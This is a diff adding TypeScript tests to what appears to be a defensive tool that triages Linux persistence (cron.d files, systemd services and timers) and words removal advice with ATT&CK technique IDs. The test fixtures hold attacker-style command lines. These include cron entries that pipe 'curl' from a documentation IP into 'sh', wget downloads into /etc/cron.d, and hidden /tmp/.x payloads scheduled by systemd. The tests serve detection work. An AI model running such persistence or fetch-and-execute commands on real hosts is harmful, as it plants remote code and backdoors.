@@ -3,6 +3,7 @@ import { test } from 'node:test';
 import fc from 'fast-check';
 import type { DecidedEvidence } from '#shared/model/finding.ts';
 import type { Sample } from '#shared/model/indicator.ts';
+import { artifact } from '#shared/model/place.ts';
 import { spelledLines, spoolFile } from '#shared/report/crontab-entry.ts';
 import { entriesOf } from '#shared/report/entries.ts';
 import { triage } from '#shared/report/triage.ts';
@@ -182,5 +183,106 @@ test('never throws on what an attacker writes', () => {
       const one = command({ commandLine, uid: commandLine, ...(path === undefined ? {} : { path }) });
       assert.ok(entriesOf([one]).length > 0);
     }),
+  );
+});
+
+for (const [commandLine, paths, expected] of [
+  ['unzip /tmp/a.zip -d /etc/cron.d', ['/tmp/a.zip'], 'Remove from /etc/cron.d what came from /tmp/a.zip'],
+  ['unzip -qo /root/a.zip -d/etc/cron.d', ['/root/a.zip'], 'Remove from /etc/cron.d what came from /root/a.zip'],
+  ['tar -xf /tmp/a.tar -C /host/etc/cron.d', ['/tmp/a.tar'], 'Remove from /host/etc/cron.d what came from /tmp/a.tar'],
+  [
+    'tar xf /tmp/a --directory=/etc/systemd/system',
+    ['/tmp/a'],
+    'Remove from /etc/systemd/system what came from /tmp/a',
+  ],
+  ['cpio -idD /etc/cron.d', [], 'Remove from /etc/cron.d what came into it then'],
+  [
+    'sh -c cd /etc/cron.d && cpio -id < /tmp/a.cpio',
+    ['/tmp/a.cpio'],
+    'Remove from /etc/cron.d what came from /tmp/a.cpio',
+  ],
+  ['cp -r /tmp/c/. /etc/cron.d/', ['/tmp/c/.'], 'Remove from /etc/cron.d what came from /tmp/c/.'],
+] as const) {
+  test(`names the place that a command filled: ${commandLine}`, () => {
+    const artifacts = paths.map((path) => artifact('path', path));
+    const [entry, ...more] = entriesOf([file({ commandLine }, { artifacts })]);
+    assert.deepEqual(more, []);
+    assert.ok(entry?.removal.startsWith(`${expected} (T1053.003 Cron, first `), entry?.removal);
+    assert.ok(entry?.removal.endsWith(`; set up by: ${commandLine})`), entry?.removal);
+    assert.match(entry?.name ?? '', /^\/(?:host\/)?etc\/(?:cron\.d|systemd\/system) \(what came /);
+  });
+}
+
+test('names the file where it is known, beside the folder that another command filled', () => {
+  for (const [commandLine, path] of [
+    ['cp -t /etc/cron.d /tmp/x', '/etc/cron.d/x'],
+    ['sh -c cd /etc/cron.d && wget http://198.51.100.7/c', '/etc/cron.d/c'],
+    ['tar -xf /tmp/a.tar -C /etc/cron.d job', '/etc/cron.d/job'],
+  ] as const) {
+    assert.deepEqual(namesOf(file({ commandLine }, { artifacts: [artifact('path', path)] })), [path], commandLine);
+  }
+  const both = file(
+    {},
+    {
+      samples: [
+        sample(4, { commandLine: 'cp /tmp/x /etc/cron.d/x' }),
+        sample(5, { commandLine: 'unzip /tmp/a.zip -d /etc/cron.d' }),
+      ],
+      artifacts: ['path:/etc/cron.d/x', 'path:/tmp/a.zip', 'path:/tmp/x'],
+    },
+  );
+  assert.deepEqual(namesOf(both).sort(), ['/etc/cron.d (what came from /tmp/a.zip)', '/etc/cron.d/x']);
+});
+
+test('never throws on a command that fills folders, and takes linear time over it', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary' }), fc.array(fc.string()), (commandLine, paths) => {
+      entriesOf([file({ commandLine }, { artifacts: paths.map((path) => artifact('path', path)) })]);
+    }),
+  );
+  const long = `unzip ${'/a'.repeat(50_000)} ${'" '.repeat(50_000)} -d /etc/cron.d`;
+  assert.equal(entriesOf([file({ commandLine: long }, { artifacts: ['url:http://198.51.100.7/c'] })]).length, 1);
+});
+
+test('says where the content of an entry came from, and what the entry fetches itself', () => {
+  const url = 'http://198.51.100.7/c';
+  const told = (commandLine: string): string =>
+    removals(file({ commandLine }, { artifacts: ['path:/etc/cron.d/c', `url:${url}`] }))[0] ?? '';
+  for (const line of [
+    `wget -P /etc/cron.d ${url}`,
+    `curl "${url}" -o /etc/cron.d/c`,
+    `sh -c 'curl -s ${url} -o /etc/cron.d/c'`,
+  ]) {
+    assert.match(told(line), /; its content came from: http:\/\/198\.51\.100\.7\/c\)$/, line);
+    assert.doesNotMatch(told(line), /it starts/, line);
+  }
+  assert.match(told(`sh -c echo "* * * * * root curl ${url} | sh" > /etc/cron.d/c`), /; it fetches: http/);
+  assert.match(told('cp /tmp/c /etc/cron.d/c'), /; named with it: http/);
+});
+
+test('gives a unit beside a crontab the technique of units', () => {
+  const one = command(
+    {},
+    {
+      samples: [
+        sample(3, { commandLine: 'sh -c echo "* * * * * /tmp/.x/a" | crontab -', uid: '0' }),
+        sample(4, { commandLine: 'systemctl enable --now upd.service', uid: '0' }),
+        sample(5, { commandLine: 'systemd-run --on-calendar=hourly /tmp/.x/a', uid: '0' }),
+      ],
+      artifacts: ['cmd:/tmp/.x/a', 'unit:upd.service', 'unit:upd.timer'],
+    },
+  );
+  const all = removals(one);
+  assert.ok(
+    all.some((text) => text.startsWith('Remove upd.service (T1543.002 Systemd Service, ')),
+    all.join('\n'),
+  );
+  assert.ok(
+    all.some((text) => text.startsWith('Remove upd.timer (T1053.006 Systemd Timers, ')),
+    all.join('\n'),
+  );
+  assert.ok(
+    all.some((text) => /^Remove the entry .*\(T1053\.003 Cron, /.test(text)),
+    all.join('\n'),
   );
 });
